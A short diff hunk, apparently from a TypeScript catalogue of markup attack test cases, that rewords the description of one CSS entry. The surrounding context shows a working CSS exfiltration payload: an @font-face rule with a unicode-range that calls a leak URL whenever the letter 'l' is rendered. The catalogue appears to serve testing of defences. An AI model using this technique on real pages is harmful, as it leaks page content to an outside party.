@@ -102,7 +102,7 @@ export const MARKUP: readonly Attack[] = [
   ),
   style(
     'x73',
-    'CSS: a font for one letter, as a letter is told',
+    'CSS: a font for one letter, as a letter is sent',
     `
     @font-face { font-family: letter; src: url(${leakUrl('letter-l')}); unicode-range: U+6C }
     .leak { font-family: letter }`,
